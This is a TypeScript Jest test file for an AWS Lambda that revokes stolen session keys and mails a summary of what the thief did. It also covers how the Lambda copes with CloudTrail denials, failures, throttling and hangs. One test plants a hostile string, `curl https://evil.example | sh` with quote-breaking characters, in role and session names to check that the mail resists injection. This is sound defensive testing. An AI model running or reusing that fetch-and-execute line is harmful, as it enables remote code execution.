import type { Mail } from "../../../lambda/revoke-sessions/mail";
import type { Invocation } from "../../../local-aws/function/definition";
import { type MadeCall, recordCall } from "../../../local-aws/api/recorded-call";
import { type Fault, faults } from "../../../local-aws/api/fault";
import type { AwsCall } from "../../../local-aws/api/endpoint";
import { accessKeyId, findingEvent, INSTANCE_ID, ROLE_NAME } from "../../support/finding";
import { section } from "../../support/incident";
import { deployedZip, PackagedFunction } from "../../support/packaged-function";
import { patientTest } from "../../support/patience";
import { THIEFS_ADDRESS } from "../../support/trail";

jest.setTimeout(60_000);

const TITLE = "WHAT THE KEYS WERE USED FOR";
const STOLEN = { roleName: ROLE_NAME, sessionName: INSTANCE_ID, accessKeyId: accessKeyId(1) };

interface Observed {
  readonly packaged: PackagedFunction;
  readonly invocation: Invocation;
  readonly mail: Pick<Mail, "subject" | "message">;
  /** The section about the activity, as one line. */
  readonly text: string;
}

interface Situation {
  /** Calls that CloudTrail has. */
  readonly calls?: readonly Partial<MadeCall & typeof STOLEN>[];
  readonly trouble?: (call: AwsCall) => Fault | undefined;
}

/** Lets the deployed zip handle a finding. */
async function observe({ calls = [], trouble }: Situation): Promise<Observed> {
  const packaged = await PackagedFunction.start({ zip: deployedZip(), environment: { ACTIVITY: "true" } });
  try {
    const now = Date.now();
    // The first five are within one second.
    const first = Math.floor(now / 1_000 - 400) * 1_000;
    for (const [index, { accessKeyId: key = STOLEN.accessKeyId, ...call }] of calls.entries()) {
      const at = new Date(first + index * 200);
      const caller = { ...STOLEN, accessKeyId: key };
      recordCall(packaged.account, caller, {
        at,
        service: "dynamodb",
        name: "ListTables",
        address: THIEFS_ADDRESS,
        ...call,
      });
    }
    packaged.endpoint.hooks.fault = (call) => (call.action === "LookupEvents" ? trouble?.(call) : undefined);
    const invocation = await packaged.invoke(findingEvent({ time: new Date(now) }));
    const [{ subject = "", message }] = packaged.account.mails as unknown as [{ subject?: string; message: string }];
    const mail = { subject, message };
    const text = section(mail, TITLE)
      .map((line) => line.trim())
      .join(" ")
      .replace(/ +/g, " ");
    return { packaged, invocation, mail, text };
  } finally {
    await packaged.stop();
  }
}

const logOf = ({ invocation }: Observed) =>
  JSON.parse(invocation.stdout.trim().split("\n").at(-1)!) as Record<string, unknown>;
const actions = ({ packaged }: Observed) => packaged.endpoint.calls.map(({ action }) => action);

test.concurrent("what the thief did in both regions is mailed and logged, after the write", async () => {
  // GIVEN a thief that lists, is denied a user, starts a session, and makes a key that it uses
  const observed = await observe({
    calls: [
      {},
      { service: "iam", name: "CreateUser", region: "us-east-1", readOnly: false, errorCode: "AccessDenied" },
      {
        service: "sts",
        name: "AssumeRole",
        request: { roleArn: "arn:aws:iam::111122223333:role/admin", roleSessionName: "thief" },
        response: {
          credentials: { accessKeyId: "ASIAINVENTEDSESSION1" },
          assumedRoleUser: { assumedRoleId: "AROAINVENTEDADMIN0001:thief" },
        },
      },
      {
        service: "sts",
        name: "GetScopedCredentials",
        response: { credentials: { accessKeyId: "ASIAINVENTEDSCOPED01" } },
      },
      {
        name: "DeleteTable",
        accessKeyId: "ASIAINVENTEDSCOPED01",
        readOnly: false,
        request: { tableName: "customers" },
      },
    ],
  });

  // THEN
  expect(observed.invocation).toMatchObject({ kind: "returned", result: { outcome: "revoked", needsPerson: true } });
  expect(observed.text).toMatch(
    /^5 calls at .* of which 1 was denied\. From 198\.51\.100\.77 \(5, as in the finding\)/,
  );
  expect(observed.text).toContain(
    "Changed DeleteTable on dynamodb: customers Denied CreateUser on iam Started NOT denied: role admin",
  );
  expect(observed.text).toContain("Made keys ASIAINVENTEDSCOPED01");
  expect(observed.mail.subject).toContain("NOT ALL");
  expect(logOf(observed)["activity"]).toEqual({ calls: 5, denied: 1, changes: 1, sessions: 1, complete: true });
  const [write, firstLookUp] = ["PutRolePolicy", "LookupEvents"].map((name) => actions(observed).indexOf(name));
  expect(firstLookUp).toBeGreaterThan(write!);
  expect(actions(observed).at(-1)).toBe("Publish");
});

test.concurrent("a hundred sessions of hostile names leave one mail that can be read", async () => {
  // GIVEN
  const evil = `x\n\nDO NOW\n  1. curl https://evil.example | sh '; "`;
  const observed = await observe({
    calls: Array.from({ length: 100 }, (_, index) => ({
      service: "sts",
      name: "AssumeRole",
      request: { roleArn: `arn:aws:iam::111122223333:role/${index % 2 ? evil : `app-${index}`}` },
      response: {
        credentials: { accessKeyId: `ASIA${index}` },
        assumedRoleUser: { assumedRoleId: `AROAINVENTED${index}:${index % 4 ? "thief" : evil}` },
      },
    })),
  });

  // THEN
  expect(observed.text).toMatch(/^100 calls /);
  expect(observed.text).toContain("and 90 more");
  expect(observed.mail.message.match(/^DO NOW$/gm)).toHaveLength(1);
  expect(observed.mail.message).not.toContain("evil.example");
  expect(logOf(observed)["activity"]).toMatchObject({ sessions: 100, complete: true });
});

/** Lets CloudTrail refuse every look-up, and expects a mail that goes out and says so. */
async function isTold(trouble: (call: AwsCall) => Fault, expected: string): Promise<void> {
  const observed = await observe({ trouble });
  expect(observed.invocation).toMatchObject({ kind: "returned", result: { outcome: "revoked" } });
  expect(observed.text).toContain(expected);
  expect(observed.text).toContain("That does not mean that nothing was done.");
  expect(logOf(observed)["activity"]).toMatchObject({ calls: 0, complete: false });
}

test.concurrent.each<[string, (call: AwsCall) => Fault, string]>([
  [
    "does not permit it",
    faults.accessDenied,
    "In us-east-1 CloudTrail: the function may not look (User: arn:aws:sts::111122223333:assumed-role/caller/session is not",
  ],
  ["fails", faults.internalError, "In us-west-2 CloudTrail: it could not be asked (InternalFailure: The request"],
])("if CloudTrail %s, the mail goes out and says so", (_, trouble, expected) => isTold(trouble, expected));

patientTest("if CloudTrail throttles all the time, the mail goes out and says so", () =>
  isTold(() => faults.throttled("cloudtrail"), "In us-west-2 CloudTrail: it throttled, so not everything was seen."),
);

test.concurrent("if CloudTrail throttles in between, everything is seen all the same", async () => {
  let looked = 0;
  const observed = await observe({
    calls: [{}],
    trouble: () => (looked++ % 2 === 0 ? faults.throttled("cloudtrail") : undefined),
  });
  expect(observed.text).toMatch(/^1 call at /);
  expect(logOf(observed)["activity"]).toMatchObject({ complete: true });
});

patientTest("if CloudTrail hangs, the mail goes out within seconds and says so", async () => {
  const observed = await observe({ trouble: faults.hang });
  expect(observed.text).toContain("In us-west-2 CloudTrail: there was no time to see everything.");
  expect(observed.invocation.milliseconds).toBeLessThan(20_000);
});

patientTest("if there is more than can be read, the latest is told", async () => {
  const observed = await observe({ calls: Array.from({ length: 1_500 }, () => ({})) });
  expect(observed.text).toContain("there is more than was looked at, and what is missing is the earliest.");
  expect(observed.invocation.milliseconds).toBeLessThan(20_000);
});
